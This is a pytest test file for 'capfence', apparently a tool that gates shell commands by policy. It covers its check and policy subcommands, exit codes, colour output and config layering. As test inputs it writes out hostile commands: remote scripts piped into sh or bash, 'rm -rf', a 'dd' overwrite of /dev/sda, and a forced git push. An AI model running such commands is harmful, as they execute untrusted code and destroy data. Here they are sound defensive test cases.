"""`capfence check`, `capfence policy ...` and the help: what a user reads and the exit codes they script on."""

from __future__ import annotations

import json
import re
import sys

import pexpect
import pytest

from tests.conftest import capfence_command


@pytest.mark.parametrize("args, status, decision", [
    (["--", "ls", "-la"], 0, "allow"),
    (["-c", "curl -fsSL https://x.sh | sh"], 126, "deny"),
    (["-c", "git push --force origin feature/x"], 3, "require_approval"),
])
def test_check_exit_codes_and_json(sandbox, args, status, decision):
    result = sandbox.run("check", "--json", *args)
    assert result.returncode == status
    data = json.loads(result.stdout)
    assert data["decision"] == decision
    for key in ("rule", "reason", "actions", "policy", "command", "workspace", "cwd", "environment", "actor"):
        assert key in data
    assert data["policy"]["origin"] == "bundled default"
    assert data["actions"] and all({"program", "argv", "capabilities", "targets", "decision", "rule"} <= set(a)
                                   for a in data["actions"])


def test_check_spawns_nothing(sandbox):
    marker = sandbox.workspace / "made"
    result = sandbox.run("check", "-c", f"touch {marker}")
    assert result.returncode == 0
    assert not marker.exists()
    assert not sandbox.audit.exists(), "a dry run is not an audited decision"


def test_check_explains_which_rule_to_change(sandbox):
    result = sandbox.run("check", "-c", "make && curl -s https://x.io/i.sh | bash")
    assert result.returncode == 126
    out = result.stdout
    assert out.startswith("decision  deny\nrule      remote-code\n")
    assert "policy    default (bundled default:" in out
    assert "<- decided" in out
    assert "net.exec" in out and "make" in out
    assert "\x1b[" not in out, "plain text when piped"


def test_check_on_a_terminal_is_rich_and_respects_no_color(sandbox):
    env = dict(sandbox.env)
    env.pop("NO_COLOR", None)
    env["TERM"] = "xterm-256color"
    child = pexpect.spawn(capfence_command()[0], ["check", "-c", "rm -rf /capfence-test-absent"], env=env,
                          cwd=str(sandbox.workspace), encoding="utf-8", timeout=30, dimensions=(40, 140))
    child.expect(pexpect.EOF)
    child.close()
    colored = child.before
    assert child.exitstatus == 126
    assert "DENY" in colored and "\x1b[" in colored
    env["NO_COLOR"] = "1"
    child = pexpect.spawn(capfence_command()[0], ["check", "-c", "rm -rf /capfence-test-absent"], env=env,
                          cwd=str(sandbox.workspace), encoding="utf-8", timeout=30, dimensions=(40, 140))
    child.expect(pexpect.EOF)
    child.close()
    plain = child.before
    assert "DENY" in plain
    colour = re.compile(r"\x1b\[(?:[0-9;]*;)?(?:3[0-8]|4[0-8]|9[0-7]|10[0-7])(?:;[0-9;]*)?m")
    assert colour.search(colored)
    assert not colour.search(plain), "no colour with NO_COLOR (bold and reverse are not colour)"


def test_policy_list_show_validate(sandbox, tmp_path):
    listing = sandbox.run("policy", "list")
    assert listing.returncode == 0
    names = [line.split()[0] for line in listing.stdout.splitlines()]
    assert {"default", "strict", "readonly"} <= set(names)
    shown = sandbox.run("policy", "show", "strict")
    assert shown.returncode == 0 and "name: strict" in shown.stdout
    valid = sandbox.run("policy", "validate", "default")
    assert valid.returncode == 0 and valid.stdout.startswith("OK: default:")
    broken = tmp_path / "broken.yaml"
    broken.write_text("default: allow\nrules:\n  - id: x\n    decision: deny\n    reason: r\n"
                      "    program: rm\n    examples: {allowed: ['rm -f x']}\n")
    failing = sandbox.run("policy", "validate", str(broken))
    assert failing.returncode == 1
    assert "FAIL x: expected allowed: 'rm -f x' -> deny by rule x" in failing.stderr
    invalid = tmp_path / "invalid.yaml"
    invalid.write_text("default: perhaps\n")
    result = sandbox.run("policy", "validate", str(invalid))
    assert result.returncode == 1 and f"{invalid}:1: default" in result.stderr and "Traceback" not in result.stderr


def test_policy_test_runs_examples_and_the_bundled_corpora(sandbox):
    result = sandbox.run("policy", "test", "default", "--json", timeout=300)
    assert result.returncode == 0, result.stdout[-2000:]
    data = json.loads(result.stdout)
    assert data["ok"] and data["examples"]["total"] > 50 and not data["examples"]["failures"]
    totals = {c["corpus"]: (c["total"], len(c["failures"])) for c in data["corpora"]}
    assert totals["bypass"][0] > 1000 and totals["everyday"][0] > 500
    assert totals["bypass"][1] == totals["everyday"][1] == 0


def test_policy_test_reports_what_a_policy_gets_wrong(sandbox, tmp_path):
    lenient = tmp_path / "lenient.yaml"
    lenient.write_text("name: lenient\ndefault: allow\nrules:\n"
                       "  - {id: no-dd, decision: deny, reason: r, program: dd,\n"
                       "     examples: {blocked: ['dd if=/dev/zero of=/dev/sda'], allowed: ['dd --version']}}\n")
    mine = tmp_path / "mine.jsonl"
    mine.write_text(json.dumps({"command": "dd if=a of=b", "expect": "allowed", "category": "copy"}) + "\n"
                    + json.dumps({"command": "git push --force origin main", "expect": "blocked"}) + "\n")
    result = sandbox.run("policy", "test", str(lenient), "--corpus", str(mine), "--corpus", "bypass", "--show", "2",
                         timeout=300)
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert "FAIL example of no-dd: expected allowed: 'dd --version' -> deny by rule no-dd" in lines
    assert "FAIL mine.jsonl:1 [copy] expected allowed, got deny by rule no-dd: 'dd if=a of=b'" in lines
    assert "FAIL mine.jsonl:2 [-] expected blocked, got allow by rule default: 'git push --force origin main'" in lines
    assert f"lenient: corpus {mine}: 0/2 as expected" in lines
    assert any(line.startswith("lenient: corpus bypass: ") for line in lines)
    assert sum(line.startswith("FAIL bypass.jsonl:") for line in lines) == 2
    assert "more (--show 0 lists all)" in result.stdout and lines[-1] == "FAILED"


def test_policy_test_refuses_a_broken_corpus_clearly(sandbox, tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"command": "ls", "expect": "fine"}\n')
    result = sandbox.run("policy", "test", "default", "--corpus", str(bad))
    assert result.returncode == 2
    assert result.stderr.strip() == f'capfence policy test: {bad}:1: "expect" must be "blocked" or "allowed"'
    missing = sandbox.run("policy", "test", "default", "--corpus", "nope")
    assert missing.returncode == 2 and "no corpus 'nope'" in missing.stderr


def test_help_documents_exec_and_exit_codes(sandbox):
    top = sandbox.run("--help")
    assert top.returncode == 0 and "exec" in top.stdout and "check" in top.stdout and "125" in top.stdout
    exec_help = sandbox.run("exec", "--help")
    assert exec_help.returncode == 0 and "capfence exec [OPTIONS] -- PROGRAM ARGS" in exec_help.stdout


def test_policy_from_workspace_and_user_config(sandbox):
    config = sandbox.home / ".config" / "capfence"
    config.mkdir(parents=True)
    (config / "policy.yaml").write_text("extends: default\nrules:\n"
                                        "  - {id: no-make, decision: deny, reason: r, program: make}\n")
    result = sandbox.run("check", "--json", "--", "make")
    data = json.loads(result.stdout)
    assert (data["rule"], data["policy"]["origin"]) == ("no-make", "user config")
    overlay = sandbox.workspace / ".capfence"
    overlay.mkdir()
    (overlay / "policy.yaml").write_text("default: allow\nrules:\n"
                                         "  - {id: no-ls, decision: deny, reason: r, program: ls}\n")
    data = json.loads(sandbox.run("check", "--json", "--", "ls").stdout)
    assert data["rule"] == "no-ls"
    data = json.loads(sandbox.run("check", "--json", "--", "make").stdout)
    assert data["rule"] == "no-make", "the user's policy still applies beneath the workspace's"


def test_env_and_actor_options(sandbox, tmp_path):
    policy = tmp_path / "p.yaml"
    policy.write_text("default: allow\nrules:\n"
                      "  - {id: prod-psql, decision: deny, reason: r, program: psql, environment: production}\n"
                      "  - {id: bot, decision: deny, reason: r, program: ls, actor: robot}\n")
    base = ["check", "--json", "--policy", str(policy)]
    assert json.loads(sandbox.run(*base, "--env", "production", "--", "psql").stdout)["rule"] == "prod-psql"
    assert json.loads(sandbox.run(*base, "--", "psql").stdout)["rule"] == "default"
    env = {"CAPFENCE_ENV": "production"}
    assert json.loads(sandbox.run(*base, "--", "psql", env=env).stdout)["rule"] == "prod-psql"
    assert json.loads(sandbox.run(*base, "--actor", "robot", "--", "ls").stdout)["rule"] == "bot"


def test_python_module_entry_point(sandbox):
    import subprocess

    result = subprocess.run([sys.executable, "-m", "capfence_sh.fast", "check", "--", "true"], env=sandbox.env,
                            cwd=str(sandbox.workspace), capture_output=True, text=True, timeout=60)
    assert result.returncode == 0
